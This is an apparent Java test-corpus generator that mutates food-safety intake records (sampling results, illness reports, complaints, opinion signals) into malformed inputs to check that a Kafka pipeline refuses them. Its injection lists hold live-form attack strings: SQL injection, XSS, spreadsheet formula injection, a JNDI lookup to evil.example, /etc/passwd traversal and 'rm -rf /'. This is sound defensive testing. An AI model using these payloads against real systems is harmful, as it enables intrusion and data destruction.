package org.foodrisk.hostile;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import org.foodrisk.ingest.InputTopic;
import org.foodrisk.kafka.Json;

import java.io.ByteArrayOutputStream;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneOffset;
import java.time.format.DateTimeFormatter;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.function.Supplier;
import java.util.ArrayList;
import java.util.Collections;
import org.foodrisk.alert.AlertBounds;

/**
 * Turns a valid record into one attack of a given class, and says what intake must make of it.
 * Returns null when the attack does not apply to the topic (an illness report has no enumerated
 * field to corrupt); the corpus then draws another. Sizes and choices come from the seeded random
 * source only, so a seed always gives the same corpus.
 */
final class Mutations {

    /** Where the topology's intake must answer: the four contract inputs, and the alert actions. */
    static final String ACTIONS = "alert-actions";

    static final List<String> INJECTIONS = List.of(
            "'; DROP TABLE samples;--", "\" OR \"1\"=\"1", "1; DELETE FROM alerts WHERE 1=1",
            "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
            "=HYPERLINK(\"http://evil.example\",\"点击\")", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
            "${jndi:ldap://evil.example/x}", "{{7*7}}", "#{7*7}", "../../../../etc/passwd", "%s%s%s%n",
            "\u0000NUL in the middle\u0000", "\u202Eevil.exe\u202C (RTL override)", "bell\u0007 escape\u001B[31mred",
            "line\r\n[ERROR] forged log line", "zero\u200Bwidth\uFEFFbom", "emoji 😀🤢🍞", "Z̴̢̛a̷l̸g̵o̶ text",
            "`rm -rf /` $(reboot)", "\\u0000 written out", "tab\tand\u000Bvertical", "投诉\u0000内容\u202E反转");

    private static final List<String> NOT_JSON = List.of("<sample id=\"1\"/>", "sampleId,program\nS1,区抽",
            "undefined", "{'sampleId': 'x'}", "{sampleId: 1}", "NaN", "0x1F", "--", "SELECT * FROM samples",
            "Infinity", "{\"a\":}", "{,}", "{\"a\" 1}", "nul", "tru", "\"unterminated", "{\"a\":1,}");

    private static final List<String> NOT_AN_OBJECT = List.of("\"just a string\"", "42", "true", "null", "-0.5",
            "[]", "[1,2,3]");

    private static final List<byte[]> BAD_UTF8 = List.of(new byte[]{(byte) 0xFF}, new byte[]{(byte) 0xC0, (byte) 0xAF},
            new byte[]{(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[]{(byte) 0xE2, (byte) 0x82},
            new byte[]{(byte) 0x80}, new byte[]{(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80},
            new byte[]{(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, new byte[]{(byte) 0xC3, (byte) 0x28});

    private static final List<String> IMPOSSIBLE_TIMES = List.of("2023-02-30T10:00:00+08:00",
            "2023-13-01T00:00:00+08:00", "2023-05-06T25:00:00+08:00", "2023-05-06T09:61:00+08:00",
            "2023-05-06T09:30:00", "2023-05-06", "yesterday", "1683336600", "2023-02-29T10:00:00+08:00",
            "2023/05/06 09:30:00", "06.05.2023 09:30", "");
    private static final List<String> UNREPRESENTABLE_TIMES = List.of("2023-05-06T09:30:00.1234567890+08:00",
            "2023-05-06T09:30:00+23:59", "2023-05-06T09:30:00-19:00");
    private static final List<String> ANCIENT_TIMES = List.of("1970-01-01T00:00:00Z", "1999-12-31T23:59:59+08:00",
            "0024-05-06T09:30:00+08:00", "1900-01-01T00:00:00Z");

    private static final DateTimeFormatter RFC3339 = DateTimeFormatter.ofPattern("yyyy-MM-dd'T'HH:mm:ssXXX");

    private final SplittableRandom random;
    private final Templates templates;
    private final Instant now;

    Mutations(SplittableRandom random, Templates templates, Instant now) {
        this.random = random;
        this.templates = templates;
        this.now = now;
    }

    /** The valid record of the topic with this id ({@link #ACTIONS}: an action on an unknown alert). */
    ObjectNode valid(String topic, String id) {
        return topic.equals(ACTIONS) ? templates.action(id) : templates.record(InputTopic.ofTopic(topic), id);
    }

    /** One record of the attack on the topic, or null when the attack does not apply to it. */
    Mutation apply(Attack attack, String topic, String id) {
        boolean actions = topic.equals(ACTIONS);
        InputTopic input = actions ? null : InputTopic.ofTopic(topic);
        ObjectNode record = valid(topic, id);
        String timeField = actions ? "at" : input.eventTimeField();
        return switch (attack) {
            case TRUNCATED_JSON -> {
                String text = json(record);
                int cut = 1 + random.nextInt(text.length() - 1);
                if (Character.isLowSurrogate(text.charAt(cut))) {
                    cut--;
                }
                yield refused(attack, id, text.substring(0, cut), "invalid-json");
            }
            case NOT_JSON -> refused(attack, id, pick(NOT_JSON), "invalid-json");
            case NOT_AN_OBJECT -> refused(attack, id, pick(NOT_AN_OBJECT), actions ? "schema" : "not-an-object");
            case EMPTY_VALUE -> refused(attack, id, pick(List.of("", "   ", "\n\t")), actions ? "schema" : "not-an-object");
            case NULL_VALUE -> Mutation.refused(attack, id, null, actions ? "schema" : "null-value");
            case INVALID_UTF8 -> Mutation.refused(attack, id, withBadBytes(record, textField(input)),
                    actions ? null : "invalid-utf8"); // actions are decoded leniently: refused later, as unknown alert
            case WRONG_ENCODING -> wrongEncoding(record, id);
            case TRAILING_GARBAGE -> refused(attack, id, json(record) + pick(List.of(" {}", "\n" + json(record), "xyz",
                    "]", ",", "}", " null", "\u0000")), actions ? null : "invalid-json");
            case DUPLICATE_KEYS -> duplicateKey(record, id);
            case DEEP_NESTING -> {
                int depth = random.nextInt(20) == 0 ? 10_000 + random.nextInt(40_000) : 70 + random.nextInt(200);
                yield refused(attack, id, withRaw(record, "extra", nested(depth)), "invalid-json");
            }
            case WRONG_TYPE -> wrongType(record, input, id);
            case MISSING_REQUIRED -> {
                for (String field : requiredFields(input, actions)) {
                    if (random.nextInt(3) == 0) {
                        record.remove(field);
                    }
                }
                record.remove(pick(requiredFields(input, actions)));
                yield refused(attack, id, json(record), "schema");
            }
            case NULL_REQUIRED -> {
                record.putNull(pick(requiredFields(input, actions)));
                yield refused(attack, id, json(record), "schema");
            }
            case BLANK_REQUIRED -> {
                List<String> strings = requiredStrings(input, actions);
                record.put(pick(strings), pick(List.of("", " ", "\t\n", "\u3000")));
                // intake trims; the actions' intake does not (a blank "by" passes, then the alert is unknown)
                yield refused(attack, id, json(record), actions ? null : "schema");
            }
            case UNKNOWN_ENUM -> enumValue(record, input, actions, id, attack,
                    List.of("国际抽", "良好", "月球", "辐射", "110", "难吃", "推特", "delete", "escalate", "合格品?"));
            case INJECTION_IN_ENUM -> enumValue(record, input, actions, id, attack, List.of("合格' OR '1'='1",
                    "<script>alert(1)</script>", "=cmd|' /C calc'!A0", "close; DROP TABLE alerts", "12315\u0000"));
            case NUMBER_OUT_OF_RANGE -> numberOutOfRange(record, input, id);
            case HUGE_NUMBER -> {
                if (input != InputTopic.OPINION_SIGNALS && input != InputTopic.ILLNESS_REPORTS) {
                    yield null;
                }
                String field = input == InputTopic.OPINION_SIGNALS ? "reach" : "age";
                yield refused(attack, id, withRaw(record, field, "9".repeat(101 + random.nextInt(5000))), "invalid-json");
            }
            case HUGE_STRING -> hugeString(record, input, actions, id);
            case HUGE_ARRAY -> hugeArray(record, input, id);
            case COMPRESSED_GIANT -> {
                // Compresses to a few KiB, so the broker takes it though it is 4–8 MB decompressed.
                char filler = random.nextBoolean() ? 'x' : '\u0001';
                String giant = filler == 'x' ? "{\"note\":\"" + "x".repeat(4_000_000 + random.nextInt(4_000_000))
                        : "\u0001".repeat(2_000_000);
                yield refused(attack, id, giant, "invalid-json");
            }
            case IMPOSSIBLE_DATE -> {
                record.put(timeField, pick(IMPOSSIBLE_TIMES));
                // the actions' intake reports a time java.time refuses as invalid-json, after the schema
                yield refused(attack, id, json(record), actions ? null : "schema");
            }
            case UNREPRESENTABLE_TIME -> {
                if (actions) {
                    yield null;
                }
                List<String> fields = switch (input) {
                    case SAMPLING_RESULTS -> List.of(timeField, "reportedAt");
                    case ILLNESS_REPORTS -> List.of(timeField, "reportedAt", "exposureAt");
                    default -> List.of(timeField);
                };
                record.put(pick(fields), pick(UNREPRESENTABLE_TIMES));
                yield refused(attack, id, json(record), "schema");
            }
            case ANCIENT_TIME -> {
                if (actions) {
                    yield null;
                }
                record.put(timeField, pick(ANCIENT_TIMES));
                yield refused(attack, id, json(record), "impossible-time");
            }
            case FUTURE_TIME -> {
                if (actions) {
                    yield null;
                }
                long minutes = 2 * 24 * 60 + random.nextLong(30L * 365 * 24 * 60);
                record.put(timeField, RFC3339.format(now.plusSeconds(minutes * 60).atOffset(ZoneOffset.ofHours(8))));
                yield refused(attack, id, json(record), "impossible-time");
            }
            case FORGED_TIMESTAMP -> {
                if (actions) {
                    yield null;
                }
                // Published with a timestamp 30 minutes ahead (the broker allows up to an hour): the event time
                // is within a day of that forged timestamp, but more than a day after the real time.
                record.put(timeField, RFC3339.format(now.plusSeconds(24 * 3600 + 20 * 60).atOffset(ZoneOffset.UTC)));
                yield refused(attack, id, json(record), "impossible-time");
            }
            case REPORT_BEFORE_SAMPLE -> {
                if (input != InputTopic.SAMPLING_RESULTS) {
                    yield null;
                }
                record.put("reportedAt", record.get("sampledAt").asText().replace("2023-", "2022-"));
                yield refused(attack, id, json(record), "impossible-time");
            }
            case CONFLICTING_DISTRICT -> {
                if (actions) {
                    yield null;
                }
                record.put("districtCode", "120114");
                record.put("districtName", "蓟州区");
                yield refused(attack, id, json(record), "inconsistent");
            }
            case CONTRADICTORY_VERDICT -> contradictoryVerdict(record, input, id);
            case UNKNOWN_ALERT -> actions ? refused(attack, id, json(record), "action-refused") : null;
            case INJECTION_IN_TEXT -> {
                if (actions) {
                    record.put("note", pick(INJECTIONS));
                    yield refused(attack, id, json(record), "action-refused");
                }
                record.put(textField(input), pick(INJECTIONS));
                yield valid(attack, id, json(record));
            }
            case NULL_OPTIONAL -> {
                if (actions) {
                    yield null;
                }
                for (String field : optionalFields(input)) {
                    if (random.nextBoolean()) {
                        record.putNull(field);
                    }
                }
                yield valid(attack, id, json(record));
            }
            case EXTREME_BUT_VALID -> actions ? null : extremeButValid(record, input, id);
            case MANY_EXTRA_FIELDS -> {
                if (actions) {
                    yield null;
                }
                int count = 100 + random.nextInt(3000);
                for (int i = 0; i < count; i++) {
                    record.put("x" + i, i % 3 == 0 ? "<b>" + i + "</b>" : null);
                }
                record.putArray("extraList").addAll(Collections.nCopies(random.nextInt(5000),
                        JsonNodeFactory.instance.numberNode(1)));
                yield valid(attack, id, json(record));
            }
            case NESTED_EXTRA_FIELD -> actions ? null : valid(attack, id, withRaw(record, "extra", nested(5 + random.nextInt(50))));
            case VALID, DUPLICATE, REORDERED_DUPLICATE, INJECTION_IN_ID, NULL_KEY, KEY_MISMATCH, OVERSIZED_BODY,
                 BATCH_TOO_LARGE, EMPTY_BATCH, MALFORMED_BATCH, FOREIGN_IDENTITY, NO_TOKEN, WRONG_TOKEN ->
                    throw new IllegalArgumentException(attack + " is made by the corpus, not by a mutation");
        };
    }

    private Mutation wrongEncoding(ObjectNode record, String id) {
        String text = json(record);
        int choice = random.nextInt(4);
        if (choice == 0) {
            return refused(Attack.WRONG_ENCODING, id, "\uFEFF" + text, "invalid-json");
        }
        Charset charset = List.of(StandardCharsets.UTF_16LE, StandardCharsets.UTF_16, Charset.forName("GB18030"))
                .get(choice - 1);
        // Whether the bytes happen to be valid UTF-8 depends on the text: invalid-utf8 or invalid-json.
        return Mutation.refused(Attack.WRONG_ENCODING, id, text.getBytes(charset), null);
    }

    private Mutation duplicateKey(ObjectNode record, String id) {
        List<String> fields = new ArrayList<>();
        record.fieldNames().forEachRemaining(fields::add);
        String field = pick(fields);
        String second = random.nextBoolean() ? record.get(field).toString() : "\"other\"";
        String text = json(record);
        return refused(Attack.DUPLICATE_KEYS, id, "{\"" + field + "\":" + second + "," + text.substring(1), "invalid-json");
    }

    private Mutation wrongType(ObjectNode record, InputTopic input, String id) {
        Map<String, Supplier<JsonNode>> choices = switch (input == null ? "actions" : input.name()) {
            case "SAMPLING_RESULTS" -> Map.of("items", () -> text("none"), "verdict", () -> number(1),
                    "sampledAt", () -> number(20230506), "labCode", () -> Json.MAPPER.createObjectNode().put("code", "x"),
                    "enterprise", () -> text("某店"), "districtCode", () -> number(120114),
                    "foodName", () -> Json.MAPPER.createArrayNode().add("韭菜"), "sampleId", () -> number(12345));
            case "ILLNESS_REPORTS" -> Map.of("symptoms", () -> text("腹泻"), "age", () -> text("34"),
                    "hospitalized", () -> text("yes"), "exposurePlace", () -> Json.MAPPER.createArrayNode().add("某饭店"),
                    "onsetAt", () -> JsonNodeFactory.instance.booleanNode(true), "districtName", () -> number(12),
                    "caseId", () -> number(1));
            case "COMPLAINTS" -> Map.of("text", () -> number(123), "channel", () -> Json.MAPPER.createArrayNode().add("12315"),
                    "enterprise", () -> text("x"), "receivedAt", () -> Json.MAPPER.createObjectNode(),
                    "foodCategory", () -> number(7), "foodName", () -> JsonNodeFactory.instance.booleanNode(false),
                    "complaintId", () -> JsonNodeFactory.instance.booleanNode(false));
            case "OPINION_SIGNALS" -> Map.of("reach", () -> text("1000"), "rumour", () -> text("true"),
                    "sentiment", () -> text("neg"), "text", () -> Json.MAPPER.createObjectNode(),
                    "publishedAt", () -> number(1715000000), "signalId", () -> JsonNodeFactory.instance.numberNode(3.14),
                    "districtCode", () -> number(120105));
            default -> Map.of("by", () -> number(5), "at", () -> JsonNodeFactory.instance.booleanNode(true),
                    "action", () -> Json.MAPPER.createArrayNode().add("close"), "alertId", () -> number(7),
                    "note", () -> Json.MAPPER.createObjectNode());
        };
        List<String> fields = choices.keySet().stream().sorted().toList();
        String field = pick(fields);
        record.set(field, choices.get(field).get());
        return refused(Attack.WRONG_TYPE, id, json(record), "schema");
    }

    private Mutation enumValue(ObjectNode record, InputTopic input, boolean actions, String id, Attack attack,
                               List<String> values) {
        String field;
        if (actions) {
            field = "action";
        } else {
            field = switch (input) {
                case SAMPLING_RESULTS -> pick(List.of("program", "verdict", "stage", "items"));
                case COMPLAINTS -> pick(List.of("channel", "issueType"));
                case OPINION_SIGNALS -> "source";
                case ILLNESS_REPORTS -> null;
            };
        }
        if (field == null) {
            return null;
        }
        String value = pick(values);
        if (field.equals("items")) {
            ((ObjectNode) record.get("items").get(0)).put("hazardClass", value);
        } else {
            record.put(field, value);
        }
        return refused(attack, id, json(record), "schema");
    }

    private Mutation numberOutOfRange(ObjectNode record, InputTopic input, String id) {
        if (input == InputTopic.ILLNESS_REPORTS) {
            String age = pick(List.of("-1", "151", "3.5", "1000000", "1e400", "-0.0001"));
            return Mutation.refused(Attack.NUMBER_OUT_OF_RANGE, id, bytes(withRaw(record, "age", age)), "schema");
        }
        if (input == InputTopic.OPINION_SIGNALS) {
            String field = pick(List.of("sentiment", "sentiment", "reach", "reach", "comments"));
            String value = switch (field) {
                case "sentiment" -> pick(List.of("1.5", "-2", "1e10", "-1.0000001"));
                case "reach" -> pick(List.of("-1", "10000000000000000000", "1e30", "2.5"));
                default -> "-3";
            };
            return refused(Attack.NUMBER_OUT_OF_RANGE, id, withRaw(record, field, value), "schema");
        }
        return null;
    }

    private Mutation hugeString(ObjectNode record, InputTopic input, boolean actions, String id) {
        String field;
        int max;
        if (actions) {
            field = "note";
            max = AlertBounds.MAX_NOTE_CHARS;
        } else {
            switch (input) {
                case SAMPLING_RESULTS -> {
                    field = pick(List.of("foodName", "sampleId", "lab"));
                    max = field.equals("sampleId") ? 128 : 256;
                }
                case ILLNESS_REPORTS -> {
                    field = pick(List.of("reportingUnit", "caseId"));
                    max = field.equals("caseId") ? 128 : 256;
                }
                case COMPLAINTS -> {
                    field = pick(List.of("text", "foodName"));
                    max = field.equals("text") ? 20_000 : 256;
                }
                default -> {
                    field = pick(List.of("text", "title", "url"));
                    max = field.equals("text") ? 20_000 : field.equals("title") ? 1000 : 2048;
                }
            }
        }
        boolean beyondParser = random.nextInt(1000) == 0;
        int length = beyondParser ? 1_000_001 + random.nextInt(50_000) : max + 1 + random.nextInt(3 * max);
        String filler = pick(List.of("A", "食", "😀", "<"));
        String huge = filler.repeat(length); // length in code points, as the schema's maxLength counts
        record.put(field, huge);
        if (field.equals(input == null ? "alertId" : input.idField())) {
            id = huge; // what a dead letter or an answer names it by
        }
        return refused(Attack.HUGE_STRING, id, json(record), beyondParser ? "invalid-json" : "schema");
    }

    private Mutation hugeArray(ObjectNode record, InputTopic input, String id) {
        if (input == InputTopic.SAMPLING_RESULTS) {
            ArrayNode items = record.putArray("items");
            int n = 501 + random.nextInt(20_000);
            boolean objects = random.nextInt(10) == 0;
            for (int i = 0; i < n; i++) {
                if (objects) {
                    items.addObject().put("item", "项目" + i).put("pass", true);
                } else {
                    items.add(i);
                }
            }
            return refused(Attack.HUGE_ARRAY, id, json(record), "schema");
        }
        if (input == InputTopic.ILLNESS_REPORTS) {
            ArrayNode symptoms = record.putArray("symptoms");
            int n = 51 + random.nextInt(5000);
            for (int i = 0; i < n; i++) {
                symptoms.add("腹泻");
            }
            return refused(Attack.HUGE_ARRAY, id, json(record), "schema");
        }
        return null;
    }

    private Mutation contradictoryVerdict(ObjectNode record, InputTopic input, String id) {
        if (input != InputTopic.SAMPLING_RESULTS) {
            return null;
        }
        if (random.nextBoolean()) {
            record.put("verdict", "合格");
            ((ObjectNode) record.get("items").get(0)).put("pass", false);
            return refused(Attack.CONTRADICTORY_VERDICT, id, json(record), "inconsistent");
        }
        record.put("verdict", "不合格");
        record.putArray("items");
        return refused(Attack.CONTRADICTORY_VERDICT, id, json(record), "schema");
    }

    private Mutation extremeButValid(ObjectNode record, InputTopic input, String id) {
        switch (input) {
            case OPINION_SIGNALS -> {
                record.put("reach", Long.MAX_VALUE);
                record.put("reposts", Long.MAX_VALUE);
                record.put("sentiment", random.nextBoolean() ? -1 : 1);
            }
            case ILLNESS_REPORTS -> {
                record.put("age", random.nextBoolean() ? 0 : 150);
                ArrayNode symptoms = record.putArray("symptoms");
                for (int i = 0; i < 50; i++) {
                    symptoms.add("症".repeat(64));
                }
            }
            case COMPLAINTS -> record.put("text", "投".repeat(20_000));
            case SAMPLING_RESULTS -> {
                ArrayNode items = record.putArray("items");
                for (int i = 0; i < 500; i++) {
                    items.addObject().put("item", "项目" + i).put("pass", true).put("result", "未检出");
                }
                record.put("verdict", "合格");
            }
        }
        return valid(Attack.EXTREME_BUT_VALID, id, json(record));
    }

    static List<String> requiredFields(InputTopic input, boolean actions) {
        if (actions) {
            return List.of("alertId", "action", "by", "at");
        }
        return switch (input) {
            // foodCategory is left out: intake infers it from foodName, by design
            case SAMPLING_RESULTS -> List.of("sampleId", "program", "labCode", "foodName", "sampledAt", "verdict", "items",
                    "districtName");
            case ILLNESS_REPORTS -> List.of("caseId", "reportingUnit", "onsetAt", "symptoms", "districtName");
            case COMPLAINTS -> List.of("complaintId", "channel", "receivedAt", "text");
            case OPINION_SIGNALS -> List.of("signalId", "source", "publishedAt", "text");
        };
    }

    private static List<String> requiredStrings(InputTopic input, boolean actions) {
        return requiredFields(input, actions).stream()
                .filter(f -> !f.equals("items") && !f.equals("symptoms")).toList();
    }

    private static List<String> optionalFields(InputTopic input) {
        return switch (input) {
            case SAMPLING_RESULTS -> List.of("agency", "lab", "stage", "enterprise", "foodSubcategory", "reportedAt");
            case ILLNESS_REPORTS -> List.of("reportedAt", "age", "sex", "suspectedFood", "exposurePlace", "hospitalized",
                    "died", "pathogen");
            case COMPLAINTS -> List.of("enterprise", "foodName", "issueType", "districtCode", "foodCategory");
            case OPINION_SIGNALS -> List.of("title", "url", "reach", "sentiment", "rumour", "districtCode");
        };
    }

    /** A free-text field of the topic, where any text is valid. */
    static String textField(InputTopic input) {
        if (input == null) {
            return "note";
        }
        return switch (input) {
            case SAMPLING_RESULTS -> "lab";
            case ILLNESS_REPORTS -> "syndrome";
            case COMPLAINTS, OPINION_SIGNALS -> "text";
        };
    }

    private byte[] withBadBytes(ObjectNode record, String field) {
        record.put(field, "@@BAD@@");
        byte[] text = bytes(json(record));
        byte[] marker = bytes("@@BAD@@");
        int at = indexOf(text, marker);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write(text, 0, at);
        out.writeBytes(BAD_UTF8.get(random.nextInt(BAD_UTF8.size())));
        out.write(text, at + marker.length, text.length - at - marker.length);
        return out.toByteArray();
    }

    private static int indexOf(byte[] text, byte[] marker) {
        outer:
        for (int i = 0; i <= text.length - marker.length; i++) {
            for (int j = 0; j < marker.length; j++) {
                if (text[i + j] != marker[j]) {
                    continue outer;
                }
            }
            return i;
        }
        throw new IllegalStateException("marker not found");
    }

    /** The record's JSON with one more field whose value is the given raw JSON text (which may be malformed). */
    private static String withRaw(ObjectNode record, String field, String rawValue) {
        record.remove(field);
        String text = json(record);
        return "{\"" + field + "\":" + rawValue + "," + text.substring(1);
    }

    private String nested(int depth) {
        boolean arrays = random.nextBoolean();
        StringBuilder text = new StringBuilder(depth * 6);
        text.append((arrays ? "[" : "{\"a\":").repeat(depth)).append('1').append((arrays ? "]" : "}").repeat(depth));
        return text.toString();
    }

    private static Mutation refused(Attack attack, String id, String value, String error) {
        return Mutation.refused(attack, id, bytes(value), error);
    }

    private static Mutation valid(Attack attack, String id, String value) {
        return Mutation.valid(attack, id, bytes(value));
    }

    static String json(JsonNode node) {
        try {
            return Json.MAPPER.writeValueAsString(node);
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static JsonNode text(String value) {
        return JsonNodeFactory.instance.textNode(value);
    }

    private static JsonNode number(long value) {
        return JsonNodeFactory.instance.numberNode(value);
    }

    private <T> T pick(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }
}
